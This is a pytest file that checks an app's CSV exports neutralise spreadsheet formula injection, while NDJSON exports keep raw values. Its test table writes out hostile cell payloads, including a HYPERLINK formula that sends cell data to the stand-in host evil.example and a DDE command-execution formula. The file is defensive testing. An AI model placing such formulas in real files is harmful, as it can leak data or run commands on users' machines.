"""CSV exports (API and CLI) neutralise formula-like cells (OWASP CSV injection); NDJSON keeps
the raw values."""
import csv
import io
import json

import pytest

from app.cli import main
from app.services.export import neutralise
from tests.factories import make_chain, post_events

# (host-controlled value, what a spreadsheet-safe CSV cell holds)
CELLS = [
    ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),   # DDE
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("plain text", "plain text"),            # untouched
    ("a=b", "a=b"),                          # only a leading character counts
    ("", ""),
]


@pytest.mark.parametrize(("raw", "cell"), CELLS)
def test_neutralise(raw, cell):
    assert neutralise(raw) == cell


def test_numbers_stay_numbers():
    assert neutralise(-1) == -1 and neutralise(-0.5) == -0.5 and neutralise(None) is None


def _hostile_events():
    return make_chain("host-a", 1, object="=HYPERLINK(\"http://x\")", reason="@SUM(A1)",
                      stderr="-1+2", subop="+evil", extra="\tx", exit_code=-1)


def test_api_csv_neutralises_and_ndjson_keeps_raw(client, host_a, viewer):
    [event] = _hostile_events()
    post_events(client, host_a, [event])
    text = viewer.client.get("/api/v1/events", params={"format": "csv"}).text
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["object"], row["reason"], row["stderr"], row["subop"], row["extra"]) == (
        "'=HYPERLINK(\"http://x\")", "'@SUM(A1)", "'-1+2", "'+evil", "'\tx")
    assert row["exit_code"] == "-1"   # a number, not neutralised
    raw = json.loads(viewer.client.get("/api/v1/events", params={"format": "ndjson"}).text)
    assert (raw["object"], raw["reason"], raw["extra"]) == (event["object"], "@SUM(A1)", "\tx")


def test_cli_csv_neutralises(db_url, capsys, host_a, client):
    post_events(client, host_a, _hostile_events())
    capsys.readouterr()
    assert main(["--database-url", db_url, "events", "query", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["object"] == "'=HYPERLINK(\"http://x\")" and row["reason"] == "'@SUM(A1)"
